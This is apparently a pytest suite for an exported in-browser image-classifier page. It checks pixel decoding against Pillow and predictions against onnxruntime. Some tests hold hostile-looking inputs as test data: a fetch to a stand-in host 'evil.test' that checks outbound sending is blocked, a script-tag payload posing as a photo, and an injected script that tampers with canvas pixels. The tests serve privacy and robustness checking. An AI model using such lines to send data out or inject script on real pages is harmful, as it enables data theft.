"""An exported page in a real browser (`make test-page`): Pillow's pixels, onnxruntime's answers.

See chromium.py for the browser.
"""

import base64
import io
import json
import random
import re
from dataclasses import replace

import numpy as np
import pytest
import torch
from chromium import drop, expect, real_browser, sent
from hostile_photos import colour_png
from PIL import Image, ImageCms
from tiny_server import CLASSES, photo, write_checkpoint

import export
from benchmarks.web_export import ADOBE_RGB, DISPLAY_P3, difference, hosted, in_all_ways, profile
from formats.known import Known
from imaging.decoding import PhotoError, load_image
from imaging.preprocess import INTERPOLATIONS, RESIZE_MODES, Fit, Preprocess, eval_transform
from imaging.sample_flowers import FLOWERS, draw_flower
from predicting.classifier import Classifier
from predicting.predictor import Predictor
from pretrained import load_model
from serving import runtime, web

pytestmark = pytest.mark.page
SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
WIDE = {
    "Display P3": profile(DISPLAY_P3),
    "Adobe RGB": profile(ADOBE_RGB),
    "exchanged": profile(DISPLAY_P3[::-1]),
}
BROKEN = {
    "no profile": b"no profile at all" * 20,
    "cut": SRGB[:300],
    "black": profile([(0, 0, 0)] * 3),
    "a link": SRGB[:12] + b"link" + SRGB[16:],
}
POINT = 0.01  # of a probability
# What a page computes of a file: pixels in base64, and their numbers.
READ = """async ([base64, preprocess, way]) => {
    const photos = await import("./photo.js");
    const { fit, toInput } = await import("./resize.js");
    const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
    const picture = way.raw
        ? { width: way.raw[0], height: way.raw[1], data: new Uint8ClampedArray(bytes) }
        : await photos.loadPhoto(new Blob([bytes]), preprocess);
    const { width, height, data } = way.fit ? fit(picture, preprocess) : picture;
    const told = way.input ? new Uint8Array(toInput(picture, preprocess).buffer) : data;
    let text = "";
    for (let at = 0; at < told.length; at += 32768) {
        text += String.fromCharCode(...told.subarray(at, at + 32768));
    }
    return { width, height, data: btoa(text) };
}"""
ASK = """async (base64) => {
    const { engine } = await import("./engine.js");
    const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
    return engine.predict(new File([bytes], "photo.jpg"));
}"""


@pytest.fixture(scope="module")
def browser():
    with real_browser() as browser:
        yield browser


@pytest.fixture(scope="module")
def parts():
    """The files of onnxruntime-web."""
    try:
        return runtime.runtime_files()
    except OSError as error:
        pytest.skip(f"onnxruntime-web is not to be had: {error}")


@pytest.fixture(scope="module")
def make(tmp_path_factory, parts):
    """Returns make(name, checkpoint) -> the folder of a page, as export.py writes it."""

    def make(name, checkpoint, small=True, **facts):
        folder = tmp_path_factory.mktemp(name) / "page"
        loaded = load_model(checkpoint)
        model = export.web_bytes(loaded, small)
        web.check_folder(folder)
        told = web.facts_of_page(Classifier.of(loaded), name, model)
        web.write_page(folder, model, told | facts, parts)
        return folder

    return make


@pytest.fixture(scope="module")
def folder(make, tmp_path_factory):
    return make("flowers", write_checkpoint(tmp_path_factory.mktemp("run") / "best.pth"))


@pytest.fixture
def open_page(browser):
    """Returns open_page(folder, **settings of the browser): the page, watched for faults."""
    contexts, hosts, asked, faults = [], [], [], []

    def open_page(folder, width=1280, scripts=(), **settings):
        hosts.append(hosted(folder))
        address = hosts[-1].__enter__()
        size = {"width": width, "height": 800}
        contexts.append(browser.new_context(**{"viewport": size, "locale": "en-US"} | settings))
        page = contexts[-1].new_page()
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on("request", lambda request: asked.append(request.url))
        for script in scripts:
            page.add_init_script(script)
        page.goto(address)
        page.asked = asked
        return page

    yield open_page
    for one in contexts:
        one.close()
    for one in hosts:
        one.__exit__(None, None, None)
    assert not faults
    assert [
        url for url in asked if not url.startswith(("http://127.0.0.1:", "blob:", "data:"))
    ] == []


def coded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def read(page, data: bytes, preprocess: Preprocess, dtype=np.uint8, **way) -> np.ndarray:
    told = preprocess.to_dict() | {"pillow": int(web.PIL.__version__.split(".")[0])}
    found = page.evaluate(READ, [coded(data), told, way])
    values = np.frombuffer(base64.b64decode(found["data"]), dtype)
    if way.get("input"):
        return values.reshape(3, preprocess.img_size, preprocess.img_size)
    return values.reshape(found["height"], found["width"], 4)[..., :3]


def saved(image: Image.Image, kind="PNG", **options) -> bytes:
    file = io.BytesIO()
    image.save(file, kind, **options)
    return file.getvalue()


# --- pixels ---


def test_pictures_are_scaled_as_pillow_scales_them(open_page, folder):
    page, rng = open_page(folder), np.random.default_rng(0)
    drawn = random.Random(0)
    sizes = [(1, 900), (900, 1), (1, 1), (64, 64), (37, 500), (640, 480)]
    sizes += [[int(2 ** drawn.uniform(0, 9)) for _ in "wh"] for _ in range(60)]
    for width, height in sizes:
        size = drawn.choice([8, 32, 64, 224])
        preprocess = Preprocess(
            img_size=size,
            resize_mode=drawn.choice(RESIZE_MODES),
            resize=drawn.choice([None, size, size + drawn.randint(0, 50)]),
            interpolation=drawn.choice(INTERPOLATIONS),
            mean=rng.uniform(0, 1, 3),
            std=rng.uniform(0.1, 1, 3),
        )
        pixels = rng.integers(0, 256, (height, width, 4), np.uint8)
        image = Image.fromarray(np.ascontiguousarray(pixels[..., :3]))
        raw, told = [width, height], f"{width} x {height}: {preprocess.words}"
        found = read(page, pixels.tobytes(), preprocess, raw=raw, fit=True)
        np.testing.assert_array_equal(found, np.asarray(Fit(preprocess)(image)), told)
        found = read(page, pixels.tobytes(), preprocess, np.float32, raw=raw, input=True)
        np.testing.assert_array_equal(found, eval_transform(preprocess)(image).numpy(), told)


def noisy(size=(150, 110)) -> Image.Image:
    """A picture with edges and colours that compression and scaling must work for."""
    noise = np.random.default_rng(1).integers(0, 256, (13, 17, 3), np.uint8)
    return Image.fromarray(noise).resize(size, Image.Resampling.BICUBIC)


JPEGS = {
    "4:4:4": {"subsampling": 0},
    "4:2:2": {"subsampling": 1},
    "4:2:0": {"subsampling": 2},
    "4:1:1": {"subsampling": "4:1:1"},
    "progressive": {"progressive": True},
    "restarts": {"restart_marker_blocks": 3},
    "a restart at each block": {"restart_marker_blocks": 1},
    "progressive with restarts": {"progressive": True, "restart_marker_blocks": 3},
    "RGB": {"keep_rgb": True},
    "best": {"quality": 100},
}


@pytest.mark.parametrize("kind", JPEGS)
@pytest.mark.parametrize("mode", ["RGB", "L", "CMYK"])
def test_jpegs_are_decoded_as_pillow_decodes_them(kind, mode, open_page, folder):
    page = open_page(folder)
    for size in ((1, 1), (3, 2), (17, 33), (150, 111)):
        picture = noisy(size)
        picture.paste("white", (0, 0, size[0] // 2, size[1]))  # blocks of few bits
        try:
            data = saved(picture.convert(mode), "JPEG", **JPEGS[kind])
        except OSError:  # restarts of a picture of one block
            continue
        for least in (1, 8, 40, 200):  # libjpeg then decodes at 1/8, 1/4 ... of the size
            preprocess = Preprocess(img_size=least)
            wanted = load_image(io.BytesIO(data), preprocess.min_size)
            found = read(page, data, preprocess)
            np.testing.assert_array_equal(found, np.asarray(wanted), f"{size}, {least}")


def transparent(mode="RGBA") -> Image.Image:
    image, alpha = noisy(), np.random.default_rng(2).integers(0, 256, (110, 150), np.uint8)
    image.putalpha(Image.fromarray(alpha))
    return image.convert(mode)


def wide(values: int, shape=(40, 50)) -> Image.Image:
    return Image.fromarray(np.random.default_rng(3).integers(0, values, shape).astype(np.uint16))


def turned(kind: str, value: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = value
    return saved(noisy(), kind, exif=exif, **({"lossless": True} if kind == "WEBP" else {}))


FILES = {
    **{f"PNG {mode}": saved(noisy().convert(mode)) for mode in ("1", "L", "P", "RGB")},
    **{f"PNG {mode}": saved(transparent(mode)) for mode in ("RGBA", "LA", "P")},
    "PNG of 4 bits": saved(noisy().quantize(13), bits=4, transparency=bytes(range(0, 130, 10))),
    "PNG, one colour transparent": saved(noisy(), transparency=noisy().getpixel((5, 5))),
    "PNG of 16 bits": saved(wide(65536)),
    **{f"{name} PNG": saved(noisy(), icc_profile=data) for name, data in WIDE.items()},
    **{f"{name} JPEG": saved(noisy(), "JPEG", icc_profile=data) for name, data in WIDE.items()},
    **{f"{name} PNG": saved(noisy(), icc_profile=data) for name, data in BROKEN.items()},
    "sRGB": saved(noisy(), "JPEG", icc_profile=SRGB),
    "transparent Display P3": saved(transparent(), icc_profile=WIDE["Display P3"]),
    **{f"{kind} {n}": turned(kind, n) for kind in ("JPEG", "PNG", "WEBP") for n in range(1, 9)},
    "WebP": saved(noisy(), "WEBP"),
    "WebP, transparent": saved(transparent(), "WEBP"),
    "GIF": saved(noisy(), "GIF"),
    "GIF, transparent": saved(transparent(), "GIF"),
    "BMP": saved(noisy(), "BMP"),
}


def test_other_files_are_decoded_as_pillow_decodes_them(open_page, folder):
    page, preprocess = open_page(folder), Preprocess(img_size=64)
    for name, data in FILES.items():
        wanted = np.asarray(load_image(io.BytesIO(data), preprocess.min_size))
        np.testing.assert_array_equal(read(page, data, preprocess), wanted, name)


def test_16_bits_are_read_by_the_range_of_the_data_set(open_page, folder):
    page = open_page(folder)
    preprocess = Preprocess(img_size=32, ranges={"16-bit": (0, 4095)})
    wanted = load_image(io.BytesIO(saved(wide(4096))), 37, preprocess.reading)
    np.testing.assert_array_equal(read(page, saved(wide(4096)), preprocess), np.asarray(wanted))
    with pytest.raises(Exception, match="beyond 0 to 4095"):
        read(page, saved(wide(65536)), preprocess)
    stored = Preprocess(img_size=64, colour_space="stored")
    data = saved(noisy(), icc_profile=WIDE["Display P3"])
    np.testing.assert_array_equal(read(page, data, stored), np.asarray(noisy()))


def colours(values: int, channels: int, alpha=65535, least=0) -> bytes:
    pixels = np.random.default_rng(3).integers(least, values, (40, 50, channels))
    if channels != 3:
        pixels[..., -1] = alpha
    return colour_png(pixels.astype(np.uint16))


WIDE_FILES = {
    "12-bit greys": saved(wide(4096)),
    "16-bit greys": saved(wide(9000)),
    "a black one": saved(wide(1)),
    **{f"12-bit colours, {n}": colours(3900, n) for n in (2, 3, 4)},
    **{f"16-bit colours, {n}": colours(9000, n) for n in (2, 3, 4)},
    "bright, nearly transparent": colours(65536, 4, alpha=100, least=60000),
}


@pytest.mark.parametrize("ranges", [None, {}, {"16-bit": (0, 4095)}, {"16-bit": (0, 65535)}])
def test_16_bits_are_read_or_refused_as_predict_does(ranges, open_page, folder):
    page, preprocess = open_page(folder), Preprocess(img_size=32, ranges=ranges)
    reading = replace(preprocess.reading, strict=True)
    for name, data in WIDE_FILES.items():
        try:
            wanted = np.asarray(load_image(io.BytesIO(data), preprocess.min_size, reading))
        except PhotoError as error:
            with pytest.raises(Exception, match=error.reason):
                read(page, data, preprocess)
        else:
            np.testing.assert_array_equal(read(page, data, preprocess), wanted, name)


# --- answers ---


def asked(page, data: bytes) -> dict:
    return page.evaluate(ASK, coded(data))


def flowers(count: int):
    """Drawn flowers of many sizes and proportions."""
    drawn = random.Random(0)
    for number in range(count):
        image = draw_flower(list(FLOWERS)[number % len(FLOWERS)], number=number)
        yield image.resize([drawn.randint(40, 700) for _ in "wh"], Image.Resampling.BICUBIC)


def test_a_hundred_photos_of_all_kinds_are_answered_as_by_onnxruntime(open_page, folder):
    page, predictor = open_page(folder), Predictor(str(folder / "model.onnx"), device="cpu")
    answers = set()
    for way, data in in_all_ways(flowers(100), 100):
        here, there = asked(page, data), predictor(io.BytesIO(data))
        assert difference(here, there) < POINT, way
        answers.add(here["predictions"][0]["class"])
    assert len(answers) > 1


KINDS = {
    "MLP": {"mlp": "mlp"},
    "groups": {"mlp": "gkan", "kan_groups": 4, "kan_rank": None},
    "distilled": {"mlp": "mlp", "distilled": True},
    "sigmoid": {"mlp": "mlp", "answers": "sigmoid"},
}


@pytest.mark.parametrize("kind", KINDS)
def test_models_of_all_kinds_answer_as_in_onnxruntime(kind, open_page, make, tmp_path):
    checkpoint = write_checkpoint(tmp_path / "best.pth", **KINDS[kind])
    folder = make(kind, checkpoint, small=kind != "distilled")
    page, predictor = open_page(folder), Predictor(str(folder / "model.onnx"), device="cpu")
    for seed in range(5):
        there = predictor(io.BytesIO(photo(seed)))
        assert difference(asked(page, photo(seed)), there) < 1e-4


def test_what_is_unlike_the_training_photos_is_unknown(open_page, make, tmp_path):
    checkpoint = write_checkpoint(tmp_path / "best.pth", mlp="mlp")
    classifier = Classifier.of(load_model(checkpoint))
    transform = eval_transform(classifier.preprocess)
    images = [transform(load_image(io.BytesIO(photo(seed)))) for seed in range(60)]
    features = classifier.see(torch.stack(images)).features.detach()
    known = Known.fit(features[:30], torch.arange(30) % 3, features[30:])
    page = open_page(make("known", checkpoint, small=False, known=known.to_dict()))
    other = saved(Image.new("RGB", (80, 80), (255, 0, 255)))
    seen = classifier.see(transform(load_image(io.BytesIO(other)))[None]).features
    assert float(known.strangeness(seen)) < 0.05
    assert asked(page, other)["unknown"] is True
    assert "unknown" not in asked(page, photo(0))  # it is known to the letter


# --- the page ---


def test_a_dropped_photo_is_answered_and_stays_on_the_device(open_page, folder):
    page = open_page(folder)
    expect(page.locator("#about")).to_contain_text(", ".join(CLASSES))
    expect(page.locator("#about")).to_contain_text("81.3% (75.0% to 87.5%, 128 photos)")
    expect(page.locator("#place")).to_contain_text("stay on this device")
    drop(page, photo(1))
    expect(page.locator(".verdict")).to_have_count(1, timeout=30_000)
    loaded = len(page.asked)
    drop(page, photo(2), "second.jpg")
    page.set_input_files("#files", [sent(saved(noisy()), "third.png", "image/png")])
    expect(page.locator(".verdict")).to_have_count(3)
    assert [url for url in page.asked[loaded:] if not url.startswith("blob:")] == []
    sent_away = "fetch('http://evil.test:9/').then(() => 'sent', () => 'refused')"
    page.asked.clear()
    assert page.evaluate(sent_away) == "refused"
    page.asked[:] = []  # the try itself


def test_what_is_no_photo_is_told_and_the_next_is_answered(open_page, folder):
    page = open_page(folder)
    cut = photo(1)[: len(photo(1)) // 2]
    for content, said in (
        (b"<script>alert(1)</script>", "cannot decode it"),
        (b"", "the file is empty"),
        (cut, "truncated"),
        (saved(noisy())[:300], "truncated"),
        (b"\x89PNG\r\n\x1a\n" + bytes(40), "damaged"),
    ):
        page.set_input_files("#files", [sent(content, "x.jpg")])
        trouble = page.locator(".card .trouble").first
        expect(trouble).to_contain_text(said, timeout=30_000)
        page.get_by_role("button", name="Clear").click()
    drop(page, photo(3))
    expect(page.locator(".verdict")).to_have_count(1)


def test_a_page_of_phones_width_shows_all_of_an_answer(open_page, folder):
    page = open_page(folder, width=360, locale="zh-TW")
    drop(page, photo(1))
    expect(page.locator(".verdict")).to_have_count(1, timeout=30_000)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    expect(page.locator("#place")).to_contain_text("照片不會離開這個裝置")


def test_a_page_without_its_model_says_which_file_is_missing(open_page, folder, tmp_path):
    import shutil

    shutil.copytree(folder, tmp_path / "copy")
    (tmp_path / "copy" / "model.onnx").unlink()
    page = open_page(tmp_path / "copy")
    drop(page, photo(1))
    expect(page.locator(".card .trouble")).to_contain_text("model.onnx cannot be had")


def test_a_browser_that_garbles_pixels_is_told_of(open_page, folder):
    garble = """const read = OffscreenCanvasRenderingContext2D.prototype.getImageData;
        OffscreenCanvasRenderingContext2D.prototype.getImageData = function (...place) {
            const image = read.apply(this, place);
            image.data[0] ^= 1;
            return image;
        };"""
    page = open_page(folder, scripts=[garble])
    drop(page, photo(1))
    expect(page.locator(".card .trouble")).to_contain_text("garbles the pixels")


@pytest.mark.parametrize(("language", "said"), [("en-US", "Browsers run no"), ("zh-TW", "瀏覽器")])
def test_opened_as_a_file_it_says_what_to_do(language, said, browser, folder):
    page = browser.new_context(locale=language).new_page()
    page.goto((folder / "index.html").as_uri())
    expect(page.locator("#trouble")).to_contain_text(said)
    expect(page.locator("#trouble")).to_contain_text("python -m http.server")
    page.close()


def test_its_facts_are_json_without_a_path(folder):
    told = (folder / "facts.json").read_text("utf-8")
    assert json.loads(told)["classes"] == CLASSES
    assert not re.search(r"/tmp|/home|\.pth", told)
